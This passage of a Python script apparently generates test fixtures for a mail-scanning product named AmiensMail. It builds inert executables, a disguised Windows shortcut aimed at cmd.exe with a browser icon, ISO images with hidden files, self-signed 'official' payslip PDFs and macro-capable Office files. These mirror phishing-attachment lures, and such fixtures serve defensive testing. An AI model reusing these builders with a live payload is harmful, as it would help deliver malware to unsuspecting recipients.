                      0x400000, 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, 0x2000, 0x200, 0, 2, 0x8140,
                      0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    opt += b"\0" * (16 * 8)
    section = struct.pack("<8sIIIIIIHHI", b".text", 0x10, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020)
    headers = bytes(dos) + coff + opt + section
    headers = headers.ljust(0x200, b"\0")
    code = bytes.fromhex("31c0c3").ljust(0x200, b"\xcc")  # xor eax, eax; ret
    return headers + code


def make_elf():
    code = bytes.fromhex("b83c00000031ff0f05")  # mov eax, 60 (exit); xor edi, edi; syscall
    entry = 0x400000 + 64 + 56
    ehdr = struct.pack("<4sBBBBB7sHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 0, 0, b"\0" * 7, 2, 0x3E, 1, entry,
                       64, 0, 0, 64, 56, 1, 0, 0, 0)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 64 + 56 + len(code), 64 + 56 + len(code), 0x1000)
    return ehdr + phdr + code


def make_lnk(*, target, arguments, name, icon, icon_index, workdir, when):
    flags = 0x04 | 0x08 | 0x10 | 0x20 | 0x40 | 0x80  # HasName, HasRelativePath, HasWorkingDir,
    #                                                    HasArguments, HasIconLocation, IsUnicode
    ft = _filetime(when)
    header = struct.pack("<I16sII", 0x4C, bytes.fromhex("0114020000000000c000000000000046"), flags, 0x20)
    header += struct.pack("<QQQ", ft, ft, ft) + struct.pack("<IiIHHII", 0, icon_index, 7, 0, 0, 0, 0)
    assert len(header) == 0x4C

    def sdata(s):
        return struct.pack("<H", len(s)) + s.encode("utf-16-le")

    return header + sdata(name) + sdata(target) + sdata(workdir) + sdata(arguments) + sdata(icon) + b"\0\0\0\0"


def inert_lnk(name, when):
    return make_lnk(target=r"..\..\..\Windows\System32\cmd.exe",
                    arguments="/c echo Fixture de test AmiensMail : raccourci inerte",
                    name=name, icon=r"%ProgramFiles(x86)%\Microsoft\Edge\Application\msedge.exe", icon_index=11,
                    workdir=r"%TEMP%", when=when)


# ----------------------------------------------------------------------------------------------
# ISO 9660 (ECMA-119), primary volume only, level 2 names

def make_iso(files, *, volume_id, preparer, when):
    """files: (ISO name 'NAME.EXT', data, hidden) tuples. Layout: 16 system sectors, PVD,
    terminator, type L and type M path tables, root directory, the files, zero padding. No Joliet
    volume (it would cost three more sectors): Windows then shows the level 2 names."""
    S = 2048

    def both16(v):
        return struct.pack("<H", v) + struct.pack(">H", v)

    def both32(v):
        return struct.pack("<I", v) + struct.pack(">I", v)

    y, mo, d, h, mi, s = when
    rec_date = bytes([y - 1900, mo, d, h, mi, s, 4])  # GMT+1 in 15-minute units
    vol_date = f"{y:04d}{mo:02d}{d:02d}{h:02d}{mi:02d}{s:02d}00".encode() + bytes([4])

    def dirrec(extent, size, flags, ident):
        length = 33 + len(ident) + (1 if len(ident) % 2 == 0 else 0)
        r = struct.pack("<BB", length, 0) + both32(extent) + both32(size) + rec_date + bytes([flags, 0, 0])
        r += both16(1) + bytes([len(ident)]) + ident
        return r.ljust(length, b"\0")

    root_lba = 20
    first_file = 21
    file_lbas = []
    lba = first_file
    for _, data, _ in files:
        file_lbas.append(lba)
        lba += max(1, -(-len(data) // S))
    # libarchive (bsdtar) only recognises an image of 16 system sectors + 8 more; burners pad
    # their images further anyway.
    total = max(lba, 24)
    root = dirrec(root_lba, S, 2, b"\0") + dirrec(root_lba, S, 2, b"\1")
    for (name, data, hidden), flba in zip(files, file_lbas):
        root += dirrec(flba, len(data), 1 if hidden else 0, (name + ";1").encode())
    root = root.ljust(S, b"\0")
    path_l = struct.pack("<BBIH", 1, 0, root_lba, 1) + b"\0\0"
    path_m = struct.pack(">BBIH", 1, 0, root_lba, 1) + b"\0\0"

    def achars(text, n):
        return text.encode().ljust(n, b" ")

    pvd = bytearray(S)
    pvd[0:7] = b"\x01CD001\x01"
    pvd[8:40] = achars("WIN32", 32)
    pvd[40:72] = achars(volume_id, 32)
    pvd[80:88] = both32(total)
    pvd[120:124] = both16(1)
    pvd[124:128] = both16(1)
    pvd[128:132] = both16(S)
    pvd[132:140] = both32(len(path_l) - 2)
    struct.pack_into("<I", pvd, 140, 18)
    struct.pack_into(">I", pvd, 148, 19)
    pvd[156:190] = dirrec(root_lba, S, 2, b"\0")
    pvd[190:318] = achars("", 128)
    pvd[318:446] = achars("", 128)
    pvd[446:574] = achars(preparer, 128)
    pvd[574:702] = achars("", 128)
    pvd[702:813] = achars("", 111)
    pvd[813:830] = vol_date
    pvd[830:847] = vol_date
    pvd[847:864] = b"0" * 16 + b"\0"
    pvd[864:881] = b"0" * 16 + b"\0"
    pvd[881] = 1
    term = bytearray(S)
    term[0:7] = b"\xffCD001\x01"
    out = bytearray(16 * S) + pvd + term + path_l.ljust(S, b"\0") + path_m.ljust(S, b"\0") + root
    for _, data, _ in files:
        out += data + b"\0" * (-len(data) % S)
    out += bytes(total * S - len(out))
    assert len(out) == total * S
    return bytes(out)


# ----------------------------------------------------------------------------------------------
# Images: PNG (zlib), baseline grayscale JPEG with DC-only blocks (a blurred "scan")

def make_png(width, height, pixel):
    raw = bytearray()
    for y in range(height):
        raw.append(0)
        for x in range(width):
            raw += bytes(pixel(x, y))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            chunk(b"pHYs", struct.pack(">IIB", 2835, 2835, 1)) +
            chunk(b"IDAT", zlib.compress(bytes(raw), 9)) + chunk(b"IEND", b""))


_DC_BITS = [0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0]
_DC_VALS = list(range(12))
_AC_BITS = [0, 2, 1, 3, 3, 2, 4, 3, 5, 5, 4, 4, 0, 0, 1, 0x7D]
_AC_VALS = bytes.fromhex(
    "01020300041105122131410613516107227114328191a1082342b1c11552d1f02433627282090a161718191a25262728292a"
    "3435363738393a434445464748494a535455565758595a636465666768696a737475767778797a838485868788898a9293"
    "9495969798999aa2a3a4a5a6a7a8a9aab2b3b4b5b6b7b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8d9dae1e2e3e4e5e6"
    "e7e8e9eaf1f2f3f4f5f6f7f8f9fa")
_LUMA_Q = [16, 11, 10, 16, 24, 40, 51, 61, 12, 12, 14, 19, 26, 58, 60, 55, 14, 13, 16, 24, 40, 57, 69, 56,
           14, 17, 22, 29, 51, 87, 80, 62, 18, 22, 37, 56, 68, 109, 103, 77, 24, 35, 55, 64, 81, 104, 113, 92,
           49, 64, 78, 87, 103, 121, 120, 101, 72, 92, 95, 98, 112, 100, 103, 99]
_ZIGZAG = [0, 1, 8, 16, 9, 2, 3, 10, 17, 24, 32, 25, 18, 11, 4, 5, 12, 19, 26, 33, 40, 48, 41, 34, 27, 20, 13,
           6, 7, 14, 21, 28, 35, 42, 49, 56, 57, 50, 43, 36, 29, 22, 15, 23, 30, 37, 44, 51, 58, 59, 52, 45,
           38, 31, 39, 46, 53, 60, 61, 54, 47, 55, 62, 63]


def _huffman_codes(bits, vals):
    codes = {}
    code = 0
    k = 0
    for length in range(1, 17):
        for _ in range(bits[length - 1]):
            codes[vals[k]] = (code, length)
            code += 1
            k += 1
        code <<= 1
    return codes


def make_jpeg(blocks_w, blocks_h, level, comment=b""):
    """A baseline grayscale JPEG, blocks_w x blocks_h 8x8 blocks, each block flat at the gray
    level level(bx, by) (0..255): only DC coefficients, every block ends with EOB."""
    dc_codes = _huffman_codes(_DC_BITS, _DC_VALS)
    eob = _huffman_codes(_AC_BITS, _AC_VALS)[0x00]
    bitbuf = []

    def put(code, length):
        for i in range(length - 1, -1, -1):
            bitbuf.append((code >> i) & 1)

    prev = 0
    for by in range(blocks_h):
        for bx in range(blocks_w):
            dc = round((level(bx, by) - 128) * 8 / _LUMA_Q[0])
            diff = dc - prev
            prev = dc
            size = abs(diff).bit_length()
            put(*dc_codes[size])
            if size:
                put(diff if diff > 0 else diff + (1 << size) - 1, size)
            put(*eob)
    bitbuf += [1] * (-len(bitbuf) % 8)
    scan = bytearray()
    for i in range(0, len(bitbuf), 8):
        b = int("".join(map(str, bitbuf[i:i + 8])), 2)
        scan.append(b)
        if b == 0xFF:
            scan.append(0)

    def seg(marker, data):
        return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data

    out = b"\xff\xd8"
    out += seg(0xE0, b"JFIF\0\x01\x01\x01\x00\x96\x00\x96\x00\x00")  # 150 dpi
    if comment:
        out += seg(0xFE, comment)
    out += seg(0xDB, b"\x00" + bytes(_LUMA_Q[z] for z in _ZIGZAG))
    out += seg(0xC0, struct.pack(">BHHB", 8, blocks_h * 8, blocks_w * 8, 1) + b"\x01\x11\x00")
    out += seg(0xC4, b"\x00" + bytes(_DC_BITS) + bytes(_DC_VALS))
    out += seg(0xC4, b"\x10" + bytes(_AC_BITS) + _AC_VALS)
    out += seg(0xDA, b"\x01\x01\x00\x00\x3f\x00")
    return out + bytes(scan) + b"\xff\xd9"


def text_page_level(seed, blocks_w, blocks_h, margin=4, header_rows=(4, 8)):
    """Gray levels of a page of text seen at one block per character cell: white paper, a dark
    letterhead, then lines of "words". Deterministic (an LCG seeded by seed)."""
    state = [seed]

    def rnd(n):
        state[0] = (state[0] * 1103515245 + 12345) & 0x7FFFFFFF
        return state[0] % n

    page = {}
    for by in range(blocks_h):
        for bx in range(blocks_w):
            page[bx, by] = 246
    for by in range(*header_rows):
        for bx in range(margin, margin + 12):
            page[bx, by] = 90
    by = header_rows[1] + 3
    while by < blocks_h - 6:
        bx = margin
        line_end = blocks_w - margin - (rnd(12) if rnd(5) == 0 else 0)
        while bx < line_end:
            word = 2 + rnd(6)
            for k in range(word):
                if bx + k < line_end:
                    page[bx + k, by] = 150 + rnd(50)
            bx += word + 1
        by += 2 if rnd(7) else 4
    return lambda x, y: page[x, y]


# ----------------------------------------------------------------------------------------------
# PDF: objects, cross-reference table, trailer; optionally a detached CMS signature

def pdf_string(text):
    raw = text.encode("cp1252")
    return b"(" + raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"


def pdf_text_stream(lines, *, x=56, y=780, size=11, leading=15, font=b"/F1"):
    ops = [b"BT", font + b" %d Tf" % size, b"%d TL" % leading, b"%d %d Td" % (x, y)]
    for line in lines:
        if isinstance(line, tuple):  # (font, size, text)
            f, s, t = line
            ops.append(f + b" %d Tf" % s)
            ops.append(pdf_string(t) + b" '")
            ops.append(font + b" %d Tf" % size)
        else:
            ops.append(pdf_string(line) + b" '")
    ops.append(b"ET")
    return b"\n".join(ops) + b"\n"


def build_pdf(objects, *, root, info, file_id, version=b"1.7"):
    """objects: list of bytes, object i+1 = objects[i] (without 'n 0 obj'); a bytes object whose
    dict needs a stream is given as (dict bytes, stream bytes)."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i
        if isinstance(obj, tuple):
            d, s = obj
            out += d.replace(b"@LEN@", b"%d" % len(s)) + b"\nstream\n" + s + b"\nendstream"
        else:
            out += obj
        out += b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    fid = file_id.hex().encode()
    out += (b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /ID [<%s> <%s>] >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objects) + 1, root, info, fid, fid, xref))
    return bytes(out)


def flate(data):
    return zlib.compress(data, 9)


def simple_pdf(title, author, producer, creator, lines, *, when, fid_label, extra_pages=()):
    date = ("D:%04d%02d%02d%02d%02d%02d+01'00'" % when).encode()
    pages = [lines] + list(extra_pages)
    n_pages = len(pages)
    objs = [None] * (5 + 2 * n_pages)
    # 1 catalog, 2 pages, 3 font, 4 font bold, 5 info, then (page, content) pairs
    kids = b" ".join(b"%d 0 R" % (6 + 2 * i) for i in range(n_pages))
    objs[0] = b"<< /Type /Catalog /Pages 2 0 R /Lang (fr-FR) >>"
    objs[1] = b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % n_pages
    objs[2] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
    objs[3] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>"
    objs[4] = (b"<< /Title " + pdf_string(title) + b" /Author " + pdf_string(author) + b" /Creator " +
               pdf_string(creator) + b" /Producer " + pdf_string(producer) + b" /CreationDate (" + date +
               b") /ModDate (" + date + b") >>")
    for i, page_lines in enumerate(pages):
        objs[5 + 2 * i] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] /Resources << /Font << "
                           b"/F1 3 0 R /F2 4 0 R >> >> /Contents %d 0 R >>" % (7 + 2 * i))
        objs[6 + 2 * i] = (b"<< /Length @LEN@ /Filter /FlateDecode >>", flate(pdf_text_stream(page_lines)))
    return build_pdf(objs, root=1, info=5, file_id=det_bytes("pdf-id/" + fid_label, 16))


# --- DER, RSA and CMS for the signed payslip ---------------------------------------------------

def der(tag, content):
    n = len(content)
    if n < 0x80:
        length = bytes([n])
    else:
        raw = n.to_bytes((n.bit_length() + 7) // 8, "big")
        length = bytes([0x80 | len(raw)]) + raw
    return bytes([tag]) + length + content


def der_int(v):
    raw = v.to_bytes(max(1, (v.bit_length() + 8) // 8), "big")
    return der(0x02, raw)


def der_oid(dotted):
    parts = [int(p) for p in dotted.split(".")]
    body = bytes([parts[0] * 40 + parts[1]])
    for p in parts[2:]:
        chunk = [p & 0x7F]
        p >>= 7
        while p:
            chunk.append(0x80 | (p & 0x7F))
            p >>= 7
        body += bytes(reversed(chunk))
    return der(0x06, body)


def seq(*items):
    return der(0x30, b"".join(items))


def der_set(*items):
    return der(0x31, b"".join(sorted(items)))


NULL = b"\x05\x00"


def _is_probable_prime(n):
    if n < 2:
        return False
    for p in (2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37):
        if n % p == 0:
            return n == p
    d, r = n - 1, 0
    while d % 2 == 0:
        d //= 2
        r += 1
    for a in (2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37, 41, 43, 47, 53, 59, 61, 67, 71):
        x = pow(a, d, n)
        if x in (1, n - 1):
            continue
        for _ in range(r - 1):
            x = pow(x, 2, n)
            if x == n - 1:
                break
        else:
            return False
    return True


def deterministic_rsa(label, bits=2048):
    """A test RSA key drawn from SHA-256 of label: the same key on every run (it signs nothing
    but this fixture)."""
    e = 65537
    primes = []
    counter = 0
    while len(primes) < 2:
        candidate = int.from_bytes(det_bytes(f"{label}/p{counter}", bits // 16), "big")
        candidate |= (3 << (bits // 2 - 2)) | 1
        counter += 1
        while not (_is_probable_prime(candidate) and (candidate - 1) % e):
            candidate += 2
        primes.append(candidate)
    p, q = primes
    n = p * q
    d = pow(e, -1, (p - 1) * (q - 1))
    return n, e, d


def rsa_sign_sha256(key, message):
    n, _, d = key
    k = (n.bit_length() + 7) // 8
    digest_info = bytes.fromhex("3031300d060960864801650304020105000420") + hashlib.sha256(message).digest()
    em = b"\x00\x01" + b"\xff" * (k - 3 - len(digest_info)) + b"\x00" + digest_info
    return pow(int.from_bytes(em, "big"), d, n).to_bytes(k, "big")


def x509_name(*rdns):
    oids = {"C": "2.5.4.6", "O": "2.5.4.10", "OU": "2.5.4.11", "CN": "2.5.4.3", "L": "2.5.4.7"}
    out = []
    for attr, value in rdns:
        tag = 0x13 if attr == "C" else 0x0C  # PrintableString for the country, else UTF8String
        out.append(der_set(seq(der_oid(oids[attr]), der(tag, value.encode("utf-8")))))
    return seq(*out)


def self_signed_cert(key, name, serial, not_before, not_after):
    n, e, _ = key
    sha256_rsa = seq(der_oid("1.2.840.113549.1.1.11"), NULL)
    spki = seq(seq(der_oid("1.2.840.113549.1.1.1"), NULL), der(0x03, b"\0" + seq(der_int(n), der_int(e))))
    key_usage = seq(der_oid("2.5.29.15"), der(0x01, b"\xff"), der(0x04, der(0x03, b"\x06\xc0")))
    basic = seq(der_oid("2.5.29.19"), der(0x04, seq()))
    tbs = seq(der(0xA0, der_int(2)), der_int(serial), sha256_rsa, name,
              seq(der(0x17, not_before), der(0x17, not_after)), name, spki,
              der(0xA3, seq(basic, key_usage)))
    return seq(tbs, sha256_rsa, der(0x03, b"\0" + rsa_sign_sha256(key, tbs)))


def cms_detached_signature(key, cert, name, serial, content, signing_time):
    sha256 = seq(der_oid("2.16.840.1.101.3.4.2.1"), NULL)
    attrs = [seq(der_oid("1.2.840.113549.1.9.3"), der_set(der_oid("1.2.840.113549.1.7.1"))),
             seq(der_oid("1.2.840.113549.1.9.5"), der_set(der(0x17, signing_time))),
             seq(der_oid("1.2.840.113549.1.9.4"), der_set(der(0x04, hashlib.sha256(content).digest())))]
    signed_attrs = der_set(*attrs)
    signature = rsa_sign_sha256(key, signed_attrs)
    signer = seq(der_int(1), seq(name, der_int(serial)), sha256, b"\xa0" + signed_attrs[1:],
                 seq(der_oid("1.2.840.113549.1.1.1"), NULL), der(0x04, signature))
    signed_data = seq(der_int(1), der_set(sha256), seq(der_oid("1.2.840.113549.1.7.1")),
                      der(0xA0, cert), der_set(signer))
    return seq(der_oid("1.2.840.113549.1.7.2"), der(0xA0, signed_data))


def signed_pdf(title, lines, *, when, signer_cn, reason, location, key_label):
    """Writes the PDF with fixed-width ByteRange fields, then signs bytes [0, a) + [b, end)."""
    date = ("D:%04d%02d%02d%02d%02d%02d+01'00'" % when).encode()
    placeholder_len = 8192
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] /SigFlags 3 >> /Lang (fr-FR) >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] /Resources << /Font << /F1 4 0 R "
        b"/F2 8 0 R >> >> /Contents 5 0 R /Annots [6 0 R] >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        (b"<< /Length @LEN@ /Filter /FlateDecode >>", flate(pdf_text_stream(lines, size=10, leading=13))),
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /Rect [0 0 0 0] /F 132 /P 3 0 R /V 7 0 R >>",
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 aaaaaaaaaa "
        b"bbbbbbbbbb cccccccccc] /Contents <" + b"0" * placeholder_len + b"> /M (" + date + b") /Name " +
        pdf_string(signer_cn) + b" /Reason " + pdf_string(reason) + b" /Location " + pdf_string(location) + b" >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>",
        b"<< /Title " + pdf_string(title) + b" /Producer (Rectorat - chaine paie) /CreationDate (" + date +
        b") >>",
    ]
    pdf = build_pdf(objs, root=1, info=9, file_id=det_bytes("pdf-id/" + title, 16))
    start = pdf.index(b"/Contents <0000") + len(b"/Contents ")
    end = start + placeholder_len + 2
    pdf = (pdf.replace(b"aaaaaaaaaa", b"%-10d" % start, 1).replace(b"bbbbbbbbbb", b"%-10d" % end, 1)
           .replace(b"cccccccccc", b"%-10d" % (len(pdf) - end), 1))
    signed_bytes = pdf[:start] + pdf[end:]
    key = deterministic_rsa(key_label)
    name = x509_name(("C", "FR"), ("O", "Académie d'Amiens (certificat de test AmiensMail)"),
                     ("OU", "Service de la paie"), ("CN", signer_cn))
    serial = int.from_bytes(det_bytes(key_label + "/serial", 8), "big")
    cert = self_signed_cert(key, name, serial, b"260101000000Z", b"281231235959Z")
    t = when
    signing_time = ("%02d%02d%02d%02d%02d%02dZ" % (t[0] % 100, t[1], t[2], t[3] - 1, t[4], t[5])).encode()
    cms = cms_detached_signature(key, cert, name, serial, signed_bytes, signing_time)
    hexsig = cms.hex().encode()
    assert len(hexsig) <= placeholder_len
    return pdf[:start + 1] + hexsig.ljust(placeholder_len, b"0") + pdf[end - 1:], signed_bytes, cms


def scanner_pdf(jpeg, width_px, height_px, when, fid_label):
    date = ("D:%04d%02d%02d%02d%02d%02d+01'00'" % when).encode()
    w = width_px * 72 / 150
    h = height_px * 72 / 150
    content = b"q\n%.2f 0 0 %.2f 0 0 cm\n/Im0 Do\nQ\n" % (w, h)
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %.2f %.2f] /Resources << /XObject << /Im0 4 0 R >> "
        b"/ProcSet [/PDF /ImageB] >> /Contents 5 0 R >>" % (w, h),
        (b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
         b"/Filter /DCTDecode /Length @LEN@ >>" % (width_px, height_px), jpeg),
        (b"<< /Length @LEN@ >>", content),
        b"<< /Producer (Canon iR-ADV C5535 PDF) /Creator (Canon iR-ADV C5535) /CreationDate (" + date + b") >>",
    ]
    return build_pdf(objs, root=1, info=6, file_id=det_bytes("pdf-id/" + fid_label, 16), version=b"1.4")


# ----------------------------------------------------------------------------------------------
# Office Open XML and OpenDocument packages

OFFICE_ZIP_DATE = (1980, 1, 1, 0, 0, 0)  # Office writes every member with this date
XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFDOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def xml_escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def rels(items):
    body = "".join(f'<Relationship Id="{rid}" Type="{typ}" Target="{target}"/>' for rid, typ, target in items)
    return (XML_DECL + f'<Relationships xmlns="{REL_NS}">{body}</Relationships>').encode()


def content_types(defaults, overrides):
    d = "".join(f'<Default Extension="{e}" ContentType="{c}"/>' for e, c in defaults)
    o = "".join(f'<Override PartName="{p}" ContentType="{c}"/>' for p, c in overrides)
    return (XML_DECL + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' + d + o +
            "</Types>").encode()


def doc_props(title, creator, app, when, company=""):
    stamp = "%04d-%02d-%02dT%02d:%02d:%02dZ" % when
    core = (XML_DECL + '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
            'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
            'xmlns:dcmitype="http://purl.org/dc/dcmitype/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
            f"<dc:title>{xml_escape(title)}</dc:title><dc:creator>{xml_escape(creator)}</dc:creator>"
            f"<cp:lastModifiedBy>{xml_escape(creator)}</cp:lastModifiedBy><cp:revision>3</cp:revision>"
            f'<dcterms:created xsi:type="dcterms:W3CDTF">{stamp}</dcterms:created>'
            f'<dcterms:modified xsi:type="dcterms:W3CDTF">{stamp}</dcterms:modified></cp:coreProperties>')
    appx = (XML_DECL + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-'
            'properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
            f"<Application>{app}</Application><DocSecurity>0</DocSecurity><ScaleCrop>false</ScaleCrop>"
            f"<Company>{xml_escape(company)}</Company><LinksUpToDate>false</LinksUpToDate>"
            "<SharedDoc>false</SharedDoc><HyperlinksChanged>false</HyperlinksChanged><AppVersion>16.0000</AppVersion>"
            "</Properties>")
    return core.encode(), appx.encode()


CT_RELS = ("rels", "application/vnd.openxmlformats-package.relationships+xml")
CT_XML = ("xml", "application/xml")
CT_CORE = ("/docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml")
CT_APP = ("/docProps/app.xml", "application/vnd.openxmlformats-officedocument.extended-properties+xml")
ROOT_RELS = [("rId3", OFFDOC + "/extended-properties", "docProps/app.xml"),
             ("rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
              "docProps/core.xml")]


def word_document_xml(paragraphs):
    body = ""
    for p in paragraphs:
        bold = p.startswith("**")
        text = p.strip("*")
        rpr = "<w:rPr><w:b/><w:sz w:val=\"28\"/></w:rPr>" if bold else ""
        body += f'<w:p><w:r>{rpr}<w:t xml:space="preserve">{xml_escape(text)}</w:t></w:r></w:p>'
    return (XML_DECL + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>' + body +
            '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1417" w:right="1417" w:bottom="1417" '
            'w:left="1417" w:header="708" w:footer="708" w:gutter="0"/></w:sectPr></w:body></w:document>').encode()


WORD_STYLES = (XML_DECL + '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
               '<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Calibri" w:hAnsi="Calibri"/><w:sz w:val="22"/>'
               '<w:lang w:val="fr-FR"/></w:rPr></w:rPrDefault></w:docDefaults><w:style w:type="paragraph" '
               'w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style></w:styles>').encode()
WORD_SETTINGS = (XML_DECL + '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                 '<w:zoom w:percent="100"/><w:defaultTabStop w:val="708"/><w:characterSpacingControl '
                 'w:val="doNotCompress"/><w:compat><w:compatSetting w:name="compatibilityMode" '
                 'w:uri="http://schemas.microsoft.com/office/word" w:val="15"/></w:compat></w:settings>').encode()


def make_docx(paragraphs, *, title, creator, when, company="", vba=None):
    """A Word document; with vba (a vbaProject.bin), the macro-enabled .docm layout."""
    main_ct = ("application/vnd.ms-word.document.macroEnabled.main+xml" if vba else
               "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    defaults = [CT_RELS, CT_XML]
    overrides = [("/word/document.xml", main_ct),
                 ("/word/styles.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"),
                 ("/word/settings.xml",
                  "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"),
                 CT_CORE, CT_APP]
    doc_rels = [("rId1", OFFDOC + "/styles", "styles.xml"), ("rId2", OFFDOC + "/settings", "settings.xml")]
    if vba:
        defaults.append(("bin", "application/vnd.ms-office.vbaProject"))
        overrides.append(("/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"))
        doc_rels.append(("rId3", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"))
    core, app = doc_props(title, creator, "Microsoft Office Word", when, company)
    d = OFFICE_ZIP_DATE
    entries = [("[Content_Types].xml", content_types(defaults, overrides), d, 8),
               ("_rels/.rels", rels([("rId1", OFFDOC + "/officeDocument", "word/document.xml")] + ROOT_RELS), d, 8),
               ("word/document.xml", word_document_xml(paragraphs), d, 8),
               ("word/_rels/document.xml.rels", rels(doc_rels), d, 8)]
    if vba:
        entries.append(("word/vbaProject.bin", vba, d, 8))
        entries.append(("word/_rels/vbaProject.bin.rels",
                        rels([("rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData",
                               "vbaData.xml")]), d, 8))
        entries.append(("word/vbaData.xml", (XML_DECL + '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/'
                                             'office/word/2006/wordml"><wne:mcds/></wne:vbaSuppData>').encode(), d, 8))
    entries += [("word/styles.xml", WORD_STYLES, d, 8), ("word/settings.xml", WORD_SETTINGS, d, 8),
                ("docProps/core.xml", core, d, 8), ("docProps/app.xml", app, d, 8)]
    return make_zip(entries)


def col_name(i):
    return "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[i]


def make_xlsx(rows, *, sheet, title, creator, when, company="", vba=None):
    """rows: lists of str / int / float / ('=', formula, cached value). Shared strings like Excel."""
    strings = []
    sheet_rows = ""
    for r, row in enumerate(rows, 1):
        cells = ""
        for c, value in enumerate(row):
            ref = f"{col_name(c)}{r}"
            if isinstance(value, str):
                if value not in strings:
                    strings.append(value)
                cells += f'<c r="{ref}" t="s"><v>{strings.index(value)}</v></c>'
            elif isinstance(value, tuple):
                cells += f'<c r="{ref}"><f>{xml_escape(value[1])}</f><v>{value[2]}</v></c>'
            elif value is not None:
                cells += f'<c r="{ref}"><v>{value}</v></c>'
        sheet_rows += f'<row r="{r}">{cells}</row>'
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="' + OFFDOC + '"'
    sheet_xml = (XML_DECL + f"<worksheet {ns}><dimension ref=\"A1:{col_name(max(len(r) for r in rows) - 1)}"
                 f"{len(rows)}\"/><sheetViews><sheetView workbookViewId=\"0\"/></sheetViews>"
                 '<sheetFormatPr defaultRowHeight="15"/><cols><col min="1" max="1" width="42" customWidth="1"/>'
                 f"</cols><sheetData>{sheet_rows}</sheetData>"
                 '<pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/>'
                 "</worksheet>").encode()
    sst = "".join(f"<si><t xml:space=\"preserve\">{xml_escape(s)}</t></si>" for s in strings)
    sst_xml = (XML_DECL + f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
               f'count="{len(strings)}" uniqueCount="{len(strings)}">{sst}</sst>').encode()
    code_name = ' codeName="ThisWorkbook"' if vba else ""
